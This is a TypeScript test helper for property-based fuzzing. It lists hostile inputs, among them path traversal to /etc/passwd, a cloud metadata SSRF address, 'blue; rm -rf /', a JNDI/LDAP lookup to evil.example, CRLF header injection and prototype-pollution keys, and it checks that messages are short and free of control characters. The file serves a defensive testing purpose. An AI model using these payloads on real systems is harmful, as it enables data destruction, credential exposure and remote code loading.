import fc from "fast-check";
import { expect } from "vitest";

/** Texts that have meant something to some program, somewhere. */
export const nasty = fc.constantFrom(
  "",
  " ",
  "blue\n",
  "\u0000",
  "\u202egreen",
  "../../etc/passwd",
  "/../live-color",
  "https://evil.example/v1/messages",
  "//evil.example",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data",
  "blue; rm -rf /",
  "%7bjndi:ldap://evil.example%7d",
  "%0d%0aHost:%20evil.example",
  "__proto__",
  "constructor",
  "x".repeat(5_000),
  "\ud800",
);

/** Any text, and more often than not one of those. */
export const anyText = fc.oneof(nasty, fc.string({ unit: "binary" }));

const WORDS_MAX = 600;

/** Controls, and the marks that turn the direction of a line. */
const CONTROLS = /[\p{Cc}\u202a-\u202e]/u;

/** A terminal, a log and a mail show it: no control characters, and no end of it. */
export function expectFewWords(message: string): void {
  expect(message.length).toBeLessThanOrEqual(WORDS_MAX);
  expect([...message].filter((letter) => CONTROLS.test(letter) && letter !== "\n")).toEqual([]);
}
